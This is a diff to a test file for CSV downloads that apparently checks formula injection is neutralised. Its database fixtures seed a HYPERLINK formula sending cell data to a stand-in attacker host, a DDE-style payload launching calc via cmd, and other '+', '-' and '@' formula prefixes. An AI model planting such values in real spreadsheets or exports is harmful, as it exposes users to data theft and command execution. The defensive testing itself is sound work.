@@ -18,10 +18,19 @@ describe('CSV downloads and formulas', () => {
   const HYPERLINK = '=HYPERLINK("http://angriber.invalid/?d="&A1;"Klik")';
   beforeAll(async () => {
     const pid = (await srv.t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
-    await srv.t.db.query(`UPDATE project_goal SET title = $2 WHERE id = (SELECT min(id) FROM project_goal WHERE project_id = $1)`, [pid, HYPERLINK]);
-    await srv.t.db.query(`UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`, [pid]);
-    await srv.t.db.query(`INSERT INTO project_report_text (project_id, section, body) VALUES ($1, 'aktiviteter', '+1+cmd|'' /C calc''!A0')
-      ON CONFLICT (project_id, section) DO UPDATE SET body = excluded.body`, [pid]);
+    await srv.t.db.query(`UPDATE project_goal SET title = $2 WHERE id = (SELECT min(id) FROM project_goal WHERE project_id = $1)`, [
+      pid,
+      HYPERLINK,
+    ]);
+    await srv.t.db.query(
+      `UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`,
+      [pid],
+    );
+    await srv.t.db.query(
+      `INSERT INTO project_report_text (project_id, section, body) VALUES ($1, 'aktiviteter', '+1+cmd|'' /C calc''!A0')
+      ON CONFLICT (project_id, section) DO UPDATE SET body = excluded.body`,
+      [pid],
+    );
     await srv.t.db.query(`UPDATE project_activity_type SET name = '-2+3+cmd' WHERE project_id = $1`, [pid]);
   });
 
